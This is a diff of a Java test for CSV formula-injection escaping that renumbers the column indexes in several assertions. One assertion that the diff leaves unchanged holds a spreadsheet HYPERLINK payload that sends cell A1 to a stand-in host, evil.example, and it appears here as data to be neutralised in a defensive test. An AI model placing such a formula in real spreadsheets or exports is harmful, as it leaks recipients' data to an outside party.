@@ -72,10 +72,10 @@ class CsvInjectionTest {
         CSVRecord billing = records.get(1);
         assertEquals("'=HYPERLINK(\"http://evil.example/?\"&A1,\"Klikkaa\")", billing.get(0),
                 "the prefix, then the text as written; Commons CSV quotes it");
-        assertEquals("'\t=1+1", billing.get(3));
-        assertEquals("'=1+1", billing.get(6));
-        assertEquals("'\r=1+1", records.get(2).get(3));
-        assertEquals("Laskutus = 1 + 1", records.get(3).get(3), "a cell that does not start a formula is as it was");
+        assertEquals("'\t=1+1", billing.get(4));
+        assertEquals("'=1+1", billing.get(7));
+        assertEquals("'\r=1+1", records.get(2).get(4));
+        assertEquals("Laskutus = 1 + 1", records.get(3).get(4), "a cell that does not start a formula is as it was");
     }
 
     @Test
